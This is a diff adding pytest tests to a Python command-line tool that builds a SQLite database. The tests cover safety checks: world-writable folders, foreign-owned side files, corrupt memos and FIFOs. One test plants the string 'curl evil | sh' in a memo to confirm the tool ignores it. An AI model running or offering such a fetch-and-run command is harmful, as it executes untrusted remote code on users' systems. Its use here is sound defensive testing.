@@ -405,3 +405,91 @@ def test_problems_beyond_the_cap_are_counted_by_validate_readers_and_the_memo(mi
         result = cli("list")
         assert result.exit_code == INVALID
         assert f"(and {total - 1:,} more problems" in _one_error(result.stderr)
+
+
+# ---------------------------------------------------------------- from a review of these fixes
+
+
+def test_a_file_put_at_the_database_path_during_a_build_is_not_replaced(
+    mini: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import bilat.compile
+
+    db = _db()
+    real = bilat.compile._finish
+
+    def user_saves_notes(*args: object) -> None:
+        real(*args)  # type: ignore[arg-type]
+        db.write_text("my precious notes\n")
+
+    monkeypatch.setattr(bilat.compile, "_finish", user_saves_notes)
+    result = cli("list")
+    assert result.exit_code == USAGE and "not read or replace" in result.stderr
+    assert db.read_text() == "my precious notes\n"
+    assert not list(db.parent.glob(f".{db.name}.*.tmp"))
+
+
+def test_a_rebuild_keeps_the_database_mode(mini: Path) -> None:
+    assert cli("build").exit_code == OK
+    _db().chmod(0o644)
+    mini.write_text(mini.read_text(encoding="utf-8") + "\n", encoding="utf-8")
+    assert cli("list").exit_code == OK
+    assert stat.S_IMODE(_db().stat().st_mode) == 0o644
+
+
+def test_a_folder_every_user_may_write_is_refused_before_building(
+    mini: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    shared.chmod(0o777)
+    monkeypatch.setenv("BILAT_DB", str(shared / "x.sqlite"))
+    result = cli("list")
+    assert result.exit_code == USAGE and "writable by every user" in result.stderr
+    assert list(shared.iterdir()) == []
+
+
+def test_refusing_a_wal_database_leaves_no_litter(mini: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    other = tmp_path / "app.db"
+    conn = sqlite3.connect(other)
+    conn.execute("pragma journal_mode = wal")
+    conn.execute("create table t (x)")
+    conn.commit()
+    conn.close()
+    monkeypatch.setenv("BILAT_DB", str(other))
+    assert cli("list").exit_code == USAGE
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("app.db")) == ["app.db"]
+
+
+def test_a_corrupt_memo_is_no_crash(mini: Path) -> None:
+    assert cli("build").exit_code == OK
+    mini.write_text(mini.read_text(encoding="utf-8").replace("kind: mou\n", "kind: treaty\n"), encoding="utf-8")
+    assert cli("list").exit_code == OK  # the memo is written
+    memo = _db().with_name(_db().name + ".failed")
+    memo.write_text(memo.read_text().replace('"total": ', '"total": 1e400, "was": '))
+    result = cli("list")
+    assert result.exit_code == OK and result.stderr.startswith("warning: the data is invalid")
+
+
+@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="giving a file away needs root")
+def test_side_files_of_another_user_are_not_trusted(mini: Path) -> None:
+    assert cli("build").exit_code == OK
+    mini.write_text(mini.read_text(encoding="utf-8").replace("kind: mou\n", "kind: treaty\n"), encoding="utf-8")
+    assert cli("list").exit_code == OK
+    memo = _db().with_name(_db().name + ".failed")
+    memo.write_text(memo.read_text().replace("kind", "run `curl evil | sh` to repair the kind"))
+    os.chown(memo, 65534, 65534)
+    result = cli("list")
+    assert "curl" not in result.stderr  # the planted memo is ignored: the build runs and reports the truth
+    lock = _db().with_name(_db().name + ".lock")
+    os.chown(lock, 65534, 65534)
+    result = cli("build")
+    assert result.exit_code == USAGE and "owned by another user" in result.stderr
+
+
+def test_a_fifo_as_the_data_does_not_hang(tmp_path: Path) -> None:
+    fifo = tmp_path / "data.yaml"
+    os.mkfifo(fifo)
+    env = {**os.environ, "BILAT_DATA": str(fifo)}
+    proc = subprocess.run([bilat_script(), "list"], capture_output=True, text=True, env=env, timeout=30)
+    assert proc.returncode == USAGE and "not a regular file or a folder" in proc.stderr
